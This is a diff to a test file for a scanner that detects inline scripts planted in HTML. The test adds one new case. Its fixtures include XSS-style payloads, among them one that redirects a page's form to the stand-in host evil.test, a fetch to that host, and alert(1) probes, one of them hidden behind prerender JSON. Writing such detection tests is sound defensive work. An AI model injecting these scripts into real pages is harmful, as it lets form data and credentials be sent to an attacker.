@@ -48,6 +48,7 @@ test.for([
   ['<script>document.forms[0].action="https://evil.test"</script>', 'script inline: document.forms[0]'],
   ['<script type="module">fetch("https://evil.test")</script>', 'script inline: fetch('],
   ['<script>alert(1)', 'script inline: alert(1)'],
+  ['<script>{"prerender":[{"where":{}}]};alert(1)</script>', 'script inline: {"prerender"'],
 ] as const)('finds the planted %s', ([planted, subject]) => {
   expect(found(document(planted)).some((each) => each.startsWith(subject))).toBe(true)
 })
